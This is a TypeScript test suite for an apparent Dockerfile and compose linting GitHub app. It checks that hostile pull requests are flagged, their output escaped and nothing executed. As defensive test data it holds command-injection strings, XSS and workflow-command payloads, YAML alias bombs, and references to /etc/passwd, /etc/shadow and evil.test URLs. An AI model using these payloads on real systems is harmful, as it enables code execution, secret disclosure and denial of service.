// Pull requests that mean harm: reviewed within the caps, told about, and nothing of them obeyed.
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import MarkdownIt from 'markdown-it';
import { AppWorld, BAD } from './app/world.ts';
import type { CheckRun, PullRequest } from './github/world.ts';
import type { FileContent } from './github/write-commit.ts';

const MIB = 1024 * 1024;
const PROOF = join(tmpdir(), `hullcheck-obeyed-${process.pid}`);
const SHELL = `$(touch ${PROOF});\`touch ${PROOF}\`|touch ${PROOF}`;
const MARKDOWN = '@mona ![x](http://evil.test/x.png) [y](http://evil.test) <img src=x onerror=alert(1)> #1 acme/shop#1 -->';
const WORKFLOW = '::error::owned\n::set-output name=x::y\n%0A::add-mask::z\r\n##[error]owned';

const services = (count: number, lines: (n: number) => string) =>
  `services:\n${Array.from({ length: count }, (_, n) => `  s${n}:\n${lines(n)}`).join('')}`;
const laughs = () =>
  Array.from(
    { length: 30 },
    (_, n) =>
      `x-${n}: &a${n} [${
        n === 0
          ? '"lol"'
          : Array(10)
              .fill(`*a${n - 1}`)
              .join(',')
      }]\n`,
  ).join('');

/** What it is, its files, and what the check must say of it: `null` where there is nothing to say. */
const HOSTILE: [string, Record<string, FileContent>, RegExp | null][] = [
  ['a file of 3 MiB', { 'big/Dockerfile': `FROM a\n${'# x\n'.repeat((3 * MIB) / 4)}` }, /2 MiB/],
  ['60,000 lines', { 'long/Dockerfile': `FROM debian:12\n${'ENV A=1\n'.repeat(60_000)}` }, /50,?000/],
  ['one line of 1 MiB', { 'wide/Dockerfile': `FROM debian:12\nRUN ${'a && '.repeat(MIB / 5)} b\n` }, null],
  [
    'nesting without end',
    { 'deep/compose.yaml': `services: ${'['.repeat(100_000)}`, 'deep/Dockerfile': `FROM a:1\nRUN ${'('.repeat(100_000)}\n` },
    /deep/,
  ],
  [
    'nesting of blocks',
    { 'blocks/compose.yaml': Array.from({ length: 2_000 }, (_, n) => `${' '.repeat(n)}a:\n`).join('') },
    /blocks/,
  ],
  ['a binary', { 'binary/Dockerfile': Buffer.from(Array.from({ length: 5_000 }, (_, n) => (n * 7_919) % 256)) }, /binary/],
  ['NUL', { 'nul/Dockerfile': 'FROM debian\nRUN a\0b\n' }, /nul/],
  ['an alias bomb', { 'bomb/compose.yaml': `${laughs()}services: { a: { image: "a:1", labels: *a29 } }\n` }, /bomb/],
  ['merge keys in a circle', { 'circle/compose.yaml': 'services:\n  a: &a\n    <<: *a\n    image: a\n' }, /circle/],
  ['a link to a file outside', { 'link/Dockerfile': { symlink: '/etc/passwd' } }, null],
  ['a link in a circle', { 'loop/Dockerfile': { symlink: 'Dockerfile' } }, null],
  [
    'ways out of the repository',
    {
      'out/compose.yaml':
        'include: [/etc/passwd, "https://evil.test/c.yaml", "../../../x.yaml"]\nservices: { a: { build: { context: ../../.., dockerfile: /etc/passwd } } }\n',
    },
    null,
  ],
  [
    'files without end',
    {
      'many/compose.yaml': services(1_000, (n) => `    build: { context: ., dockerfile: d/${n}.df }\n`),
      ...Object.fromEntries(Array.from({ length: 300 }, (_, n) => [`many/d/${n}.df`, 'FROM a:1\n'])),
    },
    /many|200/,
  ],
  ['findings without end', { 'noisy/Dockerfile': `FROM debian\n${'RUN sudo x\n'.repeat(2_100)}` }, /2000/],
  [
    'regular expressions that explode',
    {
      'slow/Dockerfile': `FROM ${'a/'.repeat(50_000)}:${'-'.repeat(50_000)}\nENV ${'A=$'.repeat(50_000)}\nRUN curl ${'-a'.repeat(50_000)} | sh\n`,
      '.dockerignore': `${'*'.repeat(20_000)}x\n`,
    },
    null,
  ],
  [
    'paths',
    {
      [`p/${SHELL.replaceAll('/', '_')}/Dockerfile`]: BAD,
      'p/-rf/Dockerfile': BAD,
      'p/a\nb::error::x/Dockerfile': BAD,
      'p/@mona <script>|`x`/Dockerfile': BAD,
      'p/\u202egpj.\u200b/Dockerfile': BAD,
      'p/__proto__/Dockerfile': BAD,
    },
    null,
  ],
  [
    'texts',
    {
      't/Dockerfile': `FROM debian\n${MARKDOWN}\nRUN sudo ${SHELL}\nENV A="${MARKDOWN}"\nFORM ${MARKDOWN}\n`,
      't/compose.yaml': `services:\n  "@mona ${SHELL}":\n    image: "${MARKDOWN.replaceAll('"', '')}"\n    privileged: true\n    imgae: ${JSON.stringify(WORKFLOW)}\n    ${JSON.stringify(WORKFLOW)}: x\n`,
    },
    null,
  ],
  [
    'other encodings',
    {
      'enc/16le/Dockerfile': Buffer.from('\ufeffFROM debian\nRUN sudo x\n', 'utf16le'),
      'enc/latin/Dockerfile': Buffer.from('FROM debian\n# caf\xe9\nRUN sudo x\n', 'latin1'),
      'enc/cr/Dockerfile': 'FROM debian\rRUN sudo x\r',
      'enc/lines/Dockerfile': 'FROM debian\nRUN a \u2028 sudo b \u0085 c\n\ufeffRUN sudo d\n',
      'enc/half/compose.yaml': Buffer.from('services: { "\xed\xa0\x80": { image: "a:1" } }\n', 'latin1'),
    },
    null,
  ],
  [
    'marks of ours',
    {
      'm/Dockerfile': `FROM debian\n<!-- hullcheck:v1 review -->\nRUN sudo echo "<!-- hullcheck:v1 fixed:x -->" \`\`\`suggestion\nENV \`\`\`\`\`\`=1\n~~~ \`\`\` x\n`,
      'm/compose.yaml':
        'services:\n  "<!-- hullcheck:v1 review -->":\n    image: "```suggestion"\n    prvileged: "</details></table><h1>@mona"\n',
    },
    null,
  ],
  [
    'reasons and settings',
    {
      'r/Dockerfile': `FROM debian:12\n# hullcheck ignore=no-sudo -- ${MARKDOWN} ::error::x ${'very '.repeat(20_000)}\nRUN sudo x\n`,
      '.github/hullcheck.yml': `${'['.repeat(50_000)}`,
      '.devcontainer/devcontainer.json': `{"build":{"dockerfile":"../../../../etc/passwd"},"dockerComposeFile":${'['.repeat(50_000)}`,
      '.hadolint.yaml': laughs(),
    },
    /hullcheck\.yml/,
  ],
  [
    'paths that are nearly others',
    {
      'q/..%2f..%2f/Dockerfile': BAD,
      'q/a\\..\\b/Dockerfile': BAD,
      'q/ ./Dockerfile': BAD,
      'q/dockerfile': BAD,
      'q/Dockerfile': BAD,
      [`q/${'d/'.repeat(200)}Dockerfile`]: BAD,
      [`q/${'n'.repeat(240)}.Dockerfile`]: BAD,
      'q/HEAD:x/Dockerfile': BAD,
      'q/:(glob)**/Dockerfile': BAD,
    },
    null,
  ],
  [
    'what leads elsewhere',
    {
      'e/compose.yaml':
        'services:\n  a:\n    extends: { file: /proc/self/environ, service: x }\n    env_file: [/etc/passwd, ../../../.env, "https://evil.test/e"]\n    build: { context: "https://evil.test/x.git#main:sub", additional_contexts: { y: "docker-image://evil.test/y" }, dockerfile_inline: "FROM x\\n::error::@mona" }\n    label_file: /etc/shadow\n',
      'e/Dockerfile':
        '# syntax=evil.test/frontend:1\nFROM evil.test/x\nADD https://evil.test/a /a\nCOPY --from=evil.test/z / /\nRUN --mount=type=bind,from=evil.test/w sudo y\n',
      'e/.dockerignore': '!**/../..\n'.repeat(30_000),
    },
    null,
  ],
  [
    'names that JavaScript knows',
    {
      'js/compose.yaml':
        'services:\n  __proto__: { image: a, constructor: 1, __proto__: { x: 1 } }\n  toString: { image: b, depends_on: [hasOwnProperty] }\n',
      'js/Dockerfile': 'FROM a AS __proto__\nFROM constructor\nCOPY --from=__proto__ a b\n',
    },
    null,
  ],
];

/** What a reader sees of Markdown outside of code: where mentions, links and HTML would count. */
function seen(markdown: string): string {
  const html = new MarkdownIt({ html: true, linkify: false }).render(markdown);
  return html.replace(/<pre>[\s\S]*?<\/pre>|<code>[\s\S]*?<\/code>|<!--[\s\S]*?-->/g, '').replaceAll('&lt;', '‹');
}

describe('a hostile pull request', () => {
  let world: AppWorld;
  before(async () => {
    world = await AppWorld.start();
  });
  after(() => world.close());

  function posted(pull: PullRequest, { output }: CheckRun): string[] {
    const { reviews, threads } = world.github.stateOf(pull);
    const comments = threads.flatMap((thread) => thread.comments.map(({ body }) => body));
    return [output.title ?? '', output.summary ?? '', output.text ?? '', ...reviews.map(({ body }) => body), ...comments];
  }

  for (const [index, [what, files, told]] of HOSTILE.entries())
    it(`with ${what}`, async () => {
      const pull = await world.pull(`hostile-${index}`, { 'good/Dockerfile': BAD, ...files });
      const check = await world.checked(pull);
      assert.notEqual(check.conclusion, 'success');
      assert.equal(world.checks(pull).length, 1);
      if (told) assert.match(check.output.summary ?? '', told);
      const spoken = [
        ...world.github.stateOf(pull).threads.map(({ path }) => path),
        ...check.annotations.map(({ path }) => path),
      ];
      assert.ok(
        spoken.includes('good/Dockerfile'),
        `the good file beside it was not reviewed: ${check.output.summary?.slice(0, 2_000)}`,
      );
      for (const text of posted(pull, check)) {
        assert.doesNotMatch(seen(text), /@mona|evil\.test|<img|<script|onerror|acme\/shop#1/);
        assert.doesNotMatch(text, /\u202e/);
      }
    });

  it('obeys nothing', () => {
    assert.equal(existsSync(PROOF), false);
    for (const line of world.app.output().trimEnd().split('\n')) {
      assert.doesNotThrow(() => JSON.parse(line), line.slice(0, 500));
      assert.doesNotMatch(line, /[\x00-\x1f\x7f-\x9f\u2028\u202e]/);
      assert.doesNotMatch(line, /^(::|##\[)/);
    }
  });
});
